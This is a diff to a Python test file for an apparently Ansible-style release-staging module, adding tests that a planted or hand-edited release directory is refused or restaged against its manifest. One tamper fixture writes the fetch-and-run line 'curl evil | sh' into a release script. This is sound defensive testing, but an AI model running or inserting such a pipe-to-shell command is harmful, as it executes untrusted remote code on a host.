@@ -108,18 +108,23 @@ def test_bad_input_is_named(tmp_path):
 # -- the action plugin: the artifact is sent only when the host does not have the release ----------
 
 
-def test_src_is_sent_only_when_needed_and_staging_sets_the_release_state(tmp_path):
-    art = tmp_path / "controller" / "shop-v3.tar.gz"
-    art.parent.mkdir()
-    make_artifact(str(art), "v3")
-    args = {
+def _src_args(tmp_path, release):
+    """Staging through the action plugin, from an artifact on the controller."""
+    art = tmp_path / "controller" / ("shop-%s.tar.gz" % release)
+    art.parent.mkdir(exist_ok=True)
+    make_artifact(str(art), release)
+    return {
         "app": "shop",
-        "release": "v3",
+        "release": release,
         "state": "present",
         "src": str(art),
         "base_dir": str(tmp_path / "opt"),
         "strip_components": 1,
     }
+
+
+def test_src_is_sent_only_when_needed_and_staging_sets_the_release_state(tmp_path):
+    args = _src_args(tmp_path, "v3")
     check = run_module("release", args, check=True)
     assert check["changed"] and check["actions"][:2] == ["transfer", "unpack"]
     assert not (tmp_path / "opt" / "shop" / "releases" / "v3").exists()
@@ -166,3 +171,54 @@ def test_a_corrupted_transfer_is_refused_by_its_checksum(tmp_path):
 def test_src_and_artifact_are_one_source(tmp_path):
     out = run_module("release", {"app": "shop", "release": "v5", "state": "present", "src": "/x", "artifact": "/y"})
     assert out["failed"] and "give one source" in out["msg"]
+
+
+# -- an existing release directory is verified against its manifest -------------------------------
+
+
+def test_a_planted_or_changed_release_directory_is_not_trusted(tmp_path):
+    root = tmp_path / "opt" / "shop"
+    run_module("release", _args(tmp_path, "v1"))
+    # a v2 directory put there by hand: not reused, even with the right checksum and no artifact
+    planted = root / "releases" / "v2"
+    planted.mkdir()
+    (planted / "VERSION").write_text("evil")
+    v2 = _args(tmp_path, "v2")
+    os.unlink(v2["artifact"])
+    refused = run_module("release", v2)
+    assert refused["failed"] and "release 'v2' on this host cannot be trusted" in refused["msg"]
+    assert "no zerodown manifest" in refused["msg"] and "nothing was changed" in refused["msg"]
+    assert (planted / "VERSION").read_text() == "evil" and os.readlink(root / "current") == "releases/v1"
+    # with the artifact it is unpacked again (check mode first: nothing changes)
+    v2 = _args(tmp_path, "v2", state="present")
+    check = run_module("release", v2, check=True)
+    assert check["changed"] and check["actions"] == ["restage"] and (planted / "VERSION").read_text() == "evil"
+    restaged = run_module("release", v2)
+    assert (
+        restaged["changed"]
+        and restaged["actions"] == ["restage"]
+        and "no zerodown manifest" in restaged["restage_reason"]
+    )
+    assert (planted / "VERSION").read_text() == "v2"
+    assert run_module("release", v2)["changed"] is False
+
+    # the live release changed by hand: refused, not replaced underneath the service
+    live = run_module("release", _args(tmp_path, "v2"))
+    assert not live["failed"] and live["current"] == "v2"
+    (root / "releases" / "v2" / "bin" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
+    tampered = run_module("release", _args(tmp_path, "v2"))
+    assert tampered["failed"] and "is live on this host but cannot be trusted" in tampered["msg"]
+    assert "changed bin/run" in tampered["msg"]
+    assert "evil" in (root / "releases" / "v2" / "bin" / "run").read_text()
+
+
+def test_the_action_plugin_sends_src_again_for_an_untrusted_release_directory(tmp_path):
+    args = _src_args(tmp_path, "v3")
+    planted = tmp_path / "opt" / "shop" / "releases" / "v3"
+    planted.mkdir(parents=True)
+    (planted / "VERSION").write_text("evil")
+    out = run_module("release", args)
+    assert not out["failed"], out
+    assert out["actions"][:2] == ["transfer", "restage"] and (planted / "VERSION").read_text() == "v3"
+    again = run_module("release", args)
+    assert again["changed"] is False and "transfer" not in again["actions"]
